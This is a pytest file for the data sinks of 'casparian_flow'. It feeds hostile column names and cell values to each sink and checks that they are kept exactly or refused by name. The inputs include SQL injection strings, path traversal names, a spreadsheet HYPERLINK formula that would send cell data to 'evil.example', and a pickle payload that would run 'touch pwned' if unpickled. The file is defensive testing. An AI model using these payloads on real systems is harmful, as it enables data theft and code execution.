"""Names and values that are made to break a sink: kept to the letter, or refused by name.

`python -m proofs.extremes` has the largest.
"""

from __future__ import annotations

import json
import random
import sqlite3
from contextlib import closing
from typing import Any

import pyarrow as pa
import pytest

from casparian_flow.engine.sinks import columns
from casparian_flow.engine.sinks.base import LINEAGE
from casparian_flow.errors import OutputRefused
from casparian_flow.protocol import Output
from tests.sinks.stages import TOPIC, Place

NAMES = [
    "../../x", "/etc/passwd", "a/b", "~", ".", "..", ".hidden", "CON", "a" * 300,
    'a"; DROP TABLE sales;--', "'); DROP TABLE sales;--", "a''b", 'a""b', "[x]", "[", "]]", "`x`",
    ";", "--", "/*", "*/", "%", "?", "?1", ":id", "@id", "$id", "{}", "{0}", "%(id)s", "\\", "\\N",
    "a\nb", "a\r\nb", "\t", "\x1b[2J", "\x7f", "\u2028", " a", "a ", " ", "a.b", "a,b", "a=b",
    "select", "TABLE", "order", "group", "null", "default", "rowid", "oid", "_rowid_", "index",
    "sqlite_master", "value", "_x", "Ünïcode", "שלום", "名前", "🐟", "\u202egpj", "é", "ß", "İ",
    "\ufeff", "\u200b", "1", "1.5", "=HYPERLINK()", "@SUM(A1)", "__index_level_0__", "x=1", "item",
]  # fmt: skip
"""Column names, all in one table: none of them is another one's twin in any sink."""

CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
    "'); DROP TABLE sales;--", '"', "''", "\\", "\0", "a\0b", "\n", "\r\n", "\x1b[2J", "../../x",
    "NULL", "null", "NaN", "inf", "1e999", "true", "<script>", "${HOME}", "%00", "{}", "[]",
    "\ufeff", "\ufffe", "\uffff", "\U0010ffff", "e\u0301", "\u202e", " ", "", "0" * 5000,
    "🐟" * 1000,
]  # fmt: skip


def stored(place: Place, columns: Any, job: int = 1, topic: str = TOPIC) -> list[dict[str, Any]]:
    """What a reader finds of columns that a sink has taken, without the lineage."""
    (seen,) = place.publish(place.sealed(columns, job, topic=topic))
    assert isinstance(seen, Output), seen
    rows = [row for row in place.rows(topic) if row["_cf_job_id"] == job]
    return [{name: row[name] for name in row if name not in LINEAGE} for row in rows]


def refusal(place: Place, columns: Any) -> OutputRefused:
    """A refusal while staging, of which nothing is left."""
    with pytest.raises(OutputRefused) as refused:
        place.sealed(columns)
    assert place.staged_files() == []
    assert place.rows() == []
    assert refused.value.hint
    return refused.value


def test_names_of_any_letters_are_columns(place: Place) -> None:
    taken = [name for name in NAMES if place.scheme != "mssql" or len(name) <= 128]
    columns = {name: [number] for number, name in enumerate(taken)}
    expected = {name: number for number, name in enumerate(taken)}
    assert stored(place, columns) == [expected]
    # A second output finds its columns, in whatever order they come, and adds others.
    again = dict(random.Random(1).sample(sorted(columns.items()), len(columns)))
    (row,) = stored(place, {**again, "one more": [7]}, job=2)
    assert row == {**expected, "one more": 7}
    assert len(place.rows()) == 2


def test_a_name_of_a_mebibyte(place: Place) -> None:
    name = "ü" * (1 << 19)
    columns = {"id": [1], name: ["x"]}
    if place.scheme == "mssql":
        assert "has a name of more than 128 characters" in refusal(place, columns).message
    else:
        assert stored(place, columns) == [{"id": 1, name: "x"}]


def test_cells_stay_what_they_are(place: Place) -> None:
    rows = stored(place, {"text": CELLS, "bytes": [cell.encode() for cell in CELLS]})
    assert rows == [{"text": cell, "bytes": cell.encode()} for cell in CELLS]


def test_names_inside_of_a_struct(place: Place) -> None:
    value = {name: number for number, name in enumerate(NAMES)}
    (row,) = stored(place, {"deep": pa.array([value])})
    if place.scheme != "parquet":
        with closing(sqlite3.connect(":memory:")) as connection:
            keys = connection.execute("SELECT key, value FROM json_each(?)", [row["deep"]])
            assert dict(keys.fetchall()) == value
    else:
        assert row["deep"] == value


@pytest.mark.slow_but("sqlite", "mssql")
def test_three_thousand_columns(place: Place) -> None:
    columns = {f"c{number}": [number] for number in range(3000)}
    if place.scheme == "sqlite":
        error = refusal(place, columns)
        assert "has 3000 columns: from column 'c1996' on" in error.message
    elif place.scheme == "mssql":
        assert "3000 columns are too many" in refusal(place, columns).message
    else:
        assert stored(place, columns) == [{name: n for name, (n,) in columns.items()}]


@pytest.mark.parametrize("twins", [("Id", "iD"), ("É", "É"), ("a", "a")], ids=["case", "same", "a"])
def test_twins(place: Place, twins: tuple[str, str]) -> None:
    batch = pa.RecordBatch.from_arrays([pa.array([1]), pa.array([2])], names=list(twins))
    if twins[0] != twins[1] and place.scheme == "parquet":
        assert stored(place, batch) == [{"Id": 1, "iD": 2}]
    else:
        assert repr(twins[0]) in refusal(place, batch).message


@pytest.mark.parametrize("name", ["", "\0", "a\0", "_cf_x", "_CF_job_id"])
def test_names_that_no_sink_takes(place: Place, name: str) -> None:
    assert repr(name) in refusal(place, {"id": [1], name: [2]}).message


def test_metadata_of_a_column_is_not_believed(place: Place) -> None:
    """A plugin's words about an extension type, as of a pickle, are words."""
    words = {
        "ARROW:extension:name": "arrow.py_extension_type",
        "ARROW:extension:metadata": b"\x80\x04cos\nsystem\n(S'touch pwned'\ntR.",
        "PARQUET:field_id": "-7",
    }
    field = pa.field("odd", pa.binary(), metadata=words)
    batch = pa.record_batch([pa.array([b"x"])], schema=pa.schema([field], {"casparian.slot": "1"}))
    assert stored(place, batch) == [{"odd": b"x"}]


def nulls_in_one_cell(rows: int, number: int) -> pa.RecordBatch:
    """Lists of so many structs of a null: some hundred bytes on the wire, whatever the number."""
    items = pa.StructArray.from_arrays([pa.nulls(rows * number)], ["a"])
    offsets = pa.array(range(0, rows * number + 1, number), pa.int32())
    return pa.record_batch([pa.ListArray.from_arrays(offsets, items)], ["cells"])


@pytest.mark.slow_but("sqlite", "mssql")
def test_a_cell_of_millions_of_nulls_is_no_json(place: Place) -> None:
    batch = nulls_in_one_cell(1, columns.CELL_VALUES // 2)
    if place.scheme == "parquet":
        assert len(stored(place, batch)) == 1
        return
    error = refusal(place, batch)
    assert "'cells'" in error.message
    assert f"more than {columns.CELL_VALUES} values" in error.message


def test_rows_of_many_values_become_objects_a_few_at_a_time(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(columns, "VALUES_AT_ONCE", 100)
    batch = nulls_in_one_cell(40, 15)
    assert [piece.num_rows for piece in columns.pieces(batch)] == [2, 3] * 8
    cells = [row["cells"] for row in stored(place, batch)]
    expected = batch.to_pylist()[0]["cells"]
    assert cells == [expected if place.scheme == "parquet" else json_of(expected)] * 40


def json_of(value: Any) -> str:
    return json.dumps(value, separators=(",", ":"))
